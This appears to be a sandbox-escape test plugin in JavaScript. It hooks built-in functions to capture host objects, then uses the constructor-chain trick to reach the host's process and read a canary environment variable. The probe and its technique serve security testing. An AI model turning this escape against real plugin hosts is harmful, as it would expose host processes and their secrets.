// Reflect and Object functions replaced.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const kept = [];
    const real = [];
    for (const owner of [Reflect, Object, JSON, Array, Symbol])
      for (const name of Object.getOwnPropertyNames(owner)) {
        if (typeof owner[name] !== 'function' || ['defineProperty', 'apply', 'getOwnPropertyDescriptor'].includes(name))
          continue;
        const original = owner[name];
        try {
          owner[name] = function (...given) {
            for (let at = 0; at < given.length; at += 1) kept[kept.length] = given[at];
            return Reflect.apply(original, this, given);
          };
          real[real.length] = [owner, name, original];
        } catch {}
      }
    try {
      ctx.log.info({ a: 1 });
      await ctx.storage.set('k', { a: [1] });
      await ctx.storage.get('k');
      await ctx.files.read(0, 2);
    } catch (error) {
      kept[kept.length] = error;
    }
    for (let at = 0; at < real.length; at += 1) real[at][0][real[at][1]] = real[at][2];
    for (const each of kept.slice(0, 2000)) look(each);
    return { metadata: verdict() };
  },
};
